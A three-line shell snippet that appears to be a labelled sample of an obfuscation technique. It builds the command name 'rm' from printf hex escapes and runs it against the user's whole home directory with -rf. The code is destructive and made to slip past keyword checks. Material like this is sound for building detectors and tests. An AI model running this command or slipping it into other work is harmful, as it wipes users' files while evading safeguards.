# assembled-name: printf hex escapes produce the command name stored in a variable
c=$(printf '\x72\x6d')
$c -rf "$HOME"
